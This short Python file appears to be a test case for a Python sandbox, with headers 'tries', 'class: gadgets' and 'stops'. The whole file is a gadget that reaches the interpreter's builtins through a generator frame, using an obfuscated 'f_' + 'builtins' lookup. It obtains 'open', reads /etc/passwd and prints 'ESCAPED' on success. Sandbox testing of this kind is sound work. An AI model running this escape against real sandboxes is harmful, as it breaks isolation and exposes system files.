# tries: a class whose __getattr__ is a reader in C
# class: gadgets
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import functools


class Box:
    __getattr__ = functools.partial(getattr, (x for x in ()))


use(pick(Box().gi_frame))
